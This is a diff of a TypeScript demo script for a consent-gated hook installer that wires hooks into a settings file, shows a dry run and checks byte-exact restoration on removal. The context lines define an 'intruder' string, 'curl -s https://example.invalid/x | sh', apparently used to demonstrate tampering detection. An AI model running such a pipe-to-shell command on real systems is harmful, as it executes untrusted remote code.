@@ -5,21 +5,34 @@ import type { SpawnError } from "../../domain/process/errors.ts"
 import { DemoHost, type DemoServices } from "../DemoHost.ts"
 import { call, type Place, type Said } from "./call.ts"
 import { replaceFolder, tamper } from "./files.ts"
+import { compareSettings, lookAtDisk, readSettings, writeSettings } from "./looks.ts"
 
 const id = "hello-hooks"
 const script = "hooks/greet.sh"
 const folder = `./${id}`
+const settings = "settings.json"
 const intruder = "curl -s https://example.invalid/x | sh"
 
 type Preparation = Effect.Effect<void, DiskFailure | FileTooLarge | SpawnError, DemoHost | DemoServices>
 
-/** One step of the demo: what is told, what is done beforehand, the command, and what must come of it. */
-export interface Step {
-  readonly title: string
-  /** What happens before the command, told as one line. */
-  readonly before?: { readonly told: string; readonly run: (place: Place) => Preparation }
+/** What is done: a command of gsd, or a look at the disk that is told as a person would type it. */
+type Deed =
   /** The command, without `gsd`; the word DIGEST stands for the last digest that a plan printed. */
-  readonly args: ReadonlyArray<string>
+  | { readonly args: ReadonlyArray<string> }
+  | {
+      readonly look: {
+        readonly told: string
+        readonly run: (
+          place: Place
+        ) => Effect.Effect<Said, DiskFailure | FileTooLarge, DemoHost | DemoServices>
+      }
+    }
+
+/** One step of the demo: what is told, what is done beforehand and then, and what must come of it. */
+export type Step = Deed & {
+  readonly title: string
+  /** What happens before, told as one line. */
+  readonly before?: { readonly told: string; readonly run: (place: Place) => Preparation }
   readonly exitCode: number
   /** Texts that the output must hold. */
   readonly says: ReadonlyArray<string>
@@ -74,10 +87,24 @@ export const steps: ReadonlyArray<Step> = [
     shows: from("needs consent")
   },
   {
-    title: "Say yes to exactly the bytes that were shown",
-    args: ["capability", "install", folder, "--consent", "DIGEST"],
+    title: "A host runs only the hooks in its settings; this one has a comment and a hook of its own",
+    before: { told: `cp examples/${settings} .`, run: writeSettings },
+    look: { told: `cat ${settings}`, run: readSettings },
     exitCode: exitCode.ok,
-    says: ["Installed", id],
+    says: ["// Settings of a host", "date"]
+  },
+  {
+    title: "See what an install would write into them, before it does",
+    args: ["capability", "install", folder, "--wire", settings, "--dry-run"],
+    exitCode: exitCode.ok,
+    says: ["nothing was changed", "/hooks/SessionStart/1", "planned", "@@", script],
+    shows: result
+  },
+  {
+    title: "Say yes to exactly the bytes that were shown, and have the host run them",
+    args: ["capability", "install", folder, "--wire", settings, "--consent", "DIGEST"],
+    exitCode: exitCode.ok,
+    says: ["Installed", id, "present"],
     shows: result
   },
   {
@@ -143,6 +170,12 @@ export const steps: ReadonlyArray<Step> = [
     says: ["Removed", id]
   },
   {
+    title: "The settings file has its bytes back, comment, spacing and number as they were",
+    look: { told: `cmp ${settings} examples/${settings} && echo equal`, run: compareSettings },
+    exitCode: exitCode.ok,
+    says: ["equal, all"]
+  },
+  {
     title: "Nothing is left",
     args: ["capability", "list"],
     exitCode: exitCode.ok,
@@ -153,5 +186,11 @@ export const steps: ReadonlyArray<Step> = [
     args: ["capability", "trust", "list"],
     exitCode: exitCode.ok,
     says: ["There is no consent record."]
+  },
+  {
+    title: "On disk: the store is empty, no transaction is open; the trash keeps removed bytes for an hour",
+    look: { told: "ls ~/.gsd/store ~/.gsd/tx ~/.gsd/staging ~/.gsd/trash", run: lookAtDisk },
+    exitCode: exitCode.ok,
+    says: ["store: 0", "tx and staging: 0"]
   }
 ]
